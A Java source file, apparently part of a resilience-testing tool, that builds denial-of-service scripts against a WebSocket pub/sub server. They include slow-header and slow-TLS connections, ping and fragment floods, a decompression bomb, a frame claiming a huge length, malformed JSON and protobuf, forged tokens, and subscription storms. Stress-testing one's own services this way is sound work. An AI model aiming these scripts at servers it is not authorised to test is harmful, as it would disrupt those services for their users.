package io.sluice.ops.attack;

import static io.sluice.ops.attack.HostileFrames.frame;
import static io.sluice.ops.attack.HostileFrames.join;
import static io.sluice.ops.attack.HostileFrames.times;
import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import io.sluice.ops.client.Handshake;
import io.sluice.ops.client.Opcode;
import java.util.function.LongFunction;

/** The scripts of all kinds for one target: bytes made once, which all sockets of a kind share. Owned by one thread. */
final class Scripts {
    private static final byte[] NOTHING = {};
    private static final String DEFLATE = "Sec-WebSocket-Extensions: permessage-deflate\r\n";
    private static final String PROTOBUF = "Sec-WebSocket-Protocol: centrifuge-protobuf\r\n";
    /** The beginning of a ClientHello of 512 bytes: record, handshake, version, random, and no session id yet. */
    private static final byte[] CLIENT_HELLO = {0x16, 3, 1, 2, 0, 1, 0, 1, (byte) 0xFC, 3, 3};
    private static final int RANDOM_BYTES = 32;
    private static final long HUGE = 1L << 62;
    private static final int INFLATED = 16 << 20;
    private static final int CHURNED_CHANNELS = 10_000;
    private static final int AT_ONCE = 200;
    private static final int SLOW_READER_CHANNELS = 100;

    private final AttackPlan.Target target;
    private final Handshake handshake = new Handshake();
    private final ForgedTokens forged = new ForgedTokens();
    private final Guests guests;
    private final byte[] proxyHeader;

    Scripts(AttackPlan.Target target) {
        this.target = target;
        guests = new Guests(target.tokenSecret());
        proxyHeader = ascii(target.proxyHeader());
    }

    Script mute() {
        return Script.lingering(proxyHeader, NOTHING);
    }

    Script slowHead() {
        String head = "GET " + target.url().getRawPath() + " HTTP/1.1\r\nHost: " + target.url().getRawAuthority();
        return Script.lingering(join(proxyHeader, ascii(head + "\r\n")), ascii("X: y\r\n"));
    }

    Script slowProxy() {
        return Script.lingering(ascii("PROXY TCP4 203.0.113."), ascii("1"));
    }

    Script slowTls() {
        return Script.lingering(join(proxyHeader, CLIENT_HELLO), new byte[] {RANDOM_BYTES});
    }

    Script unconnected() {
        return Script.saying(handshake(""), number -> NOTHING);
    }

    Script pingFlood() {
        return Script.talking(handshake(""), this::connect, times(AT_ONCE / 2, frame(Opcode.PING, new byte[125])));
    }

    Script tinyFrames() {
        return Script.talking(handshake(""), this::connect, times(AT_ONCE, frame(Opcode.PONG, NOTHING)));
    }

    Script fragments() {
        byte[] empty = HostileFrames.fragment(Opcode.CONTINUATION, NOTHING);
        return Script.talking(handshake(""),
            number -> join(connect(number), HostileFrames.fragment(Opcode.TEXT, ascii("{"))), times(AT_ONCE, empty));
    }

    Script hugeFrame() {
        byte[] head = HostileFrames.declared(Opcode.TEXT, HUGE);
        return Script.talking(handshake(""), number -> head, ascii("0123456789"));
    }

    Script bomb() {
        byte[] bomb = HostileFrames.bomb(Opcode.TEXT, INFLATED);
        return Script.saying(handshake(DEFLATE), number -> bomb);
    }

    Script churn() {
        LongFunction<byte[]> turn = number -> {
            StringBuilder commands = new StringBuilder();
            for (int each = 0; each < 10; each++) {
                String channel = target.prefix() + "churn-" + (number * 10 + each) % CHURNED_CHANNELS;
                commands.append(about("subscribe", 10 + 2 * each, channel)).append('\n')
                    .append(about("unsubscribe", 11 + 2 * each, channel)).append('\n');
            }
            return text(commands.substring(0, commands.length() - 1));
        };
        return new Script(Script.Manner.TALKS, handshake(""), this::connect, turn);
    }

    Script badJson() {
        byte[][] messages = {text("[".repeat(60_000)), text("{\"id\":" + "9".repeat(50_000) + "}"),
            text("{\"id\":1,\"connect\":{\"token\":\"" + "x".repeat(60_000) + "\"}}"), text("{\"id\":1,\"id\":2"),
            text("{\"a\":".repeat(10_000)), text("hello")};
        return Script.saying(handshake(""), number -> messages[(int) (number % messages.length)]);
    }

    Script badProtobuf() {
        byte[][] messages = {
            // A command longer than its message, a varint without end, a length of 2^31 - 1, random groups.
            {0x7F, 1}, times(20, new byte[] {(byte) 0x80}), {(byte) 0xFF, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF, 7},
            {4, 0x22, 0x7F, 1, 1}, times(30_000, new byte[] {1, 0x0B})};
        return Script.saying(handshake(PROTOBUF),
            number -> frame(Opcode.BINARY, messages[(int) (number % messages.length)]));
    }

    Script forgedToken() {
        return Script.saying(handshake(""), number -> text(Guests.connect(forged.token(number))));
    }

    Script publishFlood() {
        StringBuilder commands = new StringBuilder();
        for (int each = 0; each < 20; each++) {
            commands.append(each == 0 ? "" : "\n").append("{\"id\":").append(10 + each)
                .append(",\"publish\":{\"channel\":\"").append(target.prefix()).append("flood\",\"data\":{\"x\":\"")
                .append("x".repeat(100)).append("\"}}}");
        }
        return Script.talking(handshake(""), this::connect, text(commands.toString()));
    }

    Script storm() {
        return new Script(Script.Manner.LEAVES, handshake(""),
            number -> text(guests.connect(number) + "\n" + about("subscribe", 2, target.prefix() + "storm")),
            number -> NOTHING);
    }

    Script slowReader() {
        StringBuilder subscribes = new StringBuilder();
        for (int each = 0; each < SLOW_READER_CHANNELS; each++) {
            subscribes.append('\n').append(about("subscribe", 2 + each, target.crowded() + each));
        }
        return new Script(Script.Manner.IS_DEAF, handshake(""), number -> text(guests.connect(number) + subscribes),
            number -> NOTHING);
    }

    private byte[] connect(long number) {
        return text(guests.connect(number));
    }

    private byte[] handshake(String headers) {
        String request = new String(handshake.request(target.url()), ISO_8859_1);
        return join(proxyHeader, ascii(request.substring(0, request.length() - 2) + headers + "\r\n"));
    }

    private static String about(String command, int id, String channel) {
        return "{\"id\":" + id + ",\"" + command + "\":{\"channel\":\"" + channel + "\"}}";
    }

    private static byte[] text(String message) {
        return frame(Opcode.TEXT, message.getBytes(UTF_8));
    }

    private static byte[] ascii(String text) {
        return text.getBytes(ISO_8859_1);
    }
}
